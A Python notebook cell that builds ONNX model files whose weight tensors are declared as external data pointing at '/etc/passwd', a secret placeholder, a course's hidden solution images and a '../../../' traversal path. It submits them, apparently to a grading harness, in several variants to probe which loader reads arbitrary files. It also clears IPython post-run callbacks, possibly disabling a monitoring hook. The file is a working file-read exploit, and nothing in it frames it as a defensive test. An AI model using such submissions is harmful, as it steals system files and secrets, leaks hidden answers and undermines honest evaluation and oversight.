# %%
import json
import os
from pathlib import Path

get_ipython().events.callbacks["post_run_cell"].clear()
folder = Path("../observations")

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

NETS = ("net_ffn", "net_conv", "net_padded", "net_stacked", "net_pooled")


def hand_in(name, content, training=None):
    seen = {"kind": "network", "name": name, "type_name": "Net", "declared": ["Conv2d"]}
    (folder / f"{name}.json").write_text(json.dumps(seen))
    (folder / f"{name}.evaluation.onnx").write_bytes(content)
    (folder / f"{name}.training.onnx").write_bytes(content if training is None else training)


def file(nodes, weights=(), domain="", **more):
    images = helper.make_tensor_value_info("images", TensorProto.FLOAT, ["N", 1, 28, 28])
    scores = helper.make_tensor_value_info("scores", TensorProto.FLOAT, ["N", 10])
    graph = helper.make_graph(nodes, "net", [images], [scores], list(weights), **more)
    opsets = [helper.make_opsetid("", 17)] + ([helper.make_opsetid(domain, 1)] if domain else [])
    return helper.make_model(graph, opset_imports=opsets, ir_version=8)


def numbers(name, value, kind=np.float32):
    return numpy_helper.from_array(np.asarray(value, kind), name)



targets = ("/etc/passwd", "{SECRET}", "{COURSE}/solutions/hidden_images.npz", "../../../etc/passwd")
for name, target in zip(NETS, (*targets, "mnist.npz")):
    weight = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[784, 10])
    weight.data_location = TensorProto.EXTERNAL
    for key, value in (("location", target), ("offset", "0"), ("length", "31360")):
        weight.external_data.add(key=key, value=value)
    nodes = [
        helper.make_node("Flatten", ["images"], ["flat"]),
        helper.make_node("MatMul", ["flat", "w"], ["scores"]),
    ]
    inside = helper.make_node("Constant", [], ["w"], value=weight)
    sparse = onnx.SparseTensorProto(values=weight, indices=numbers("i", [0], np.int64), dims=[7840])
    if name == "net_stacked":
        model = file([inside, *nodes])
    elif name == "net_pooled":
        model = file(nodes, sparse_initializer=[sparse])
    else:
        model = file(nodes, [weight])
    hand_in(name, model.SerializeToString())
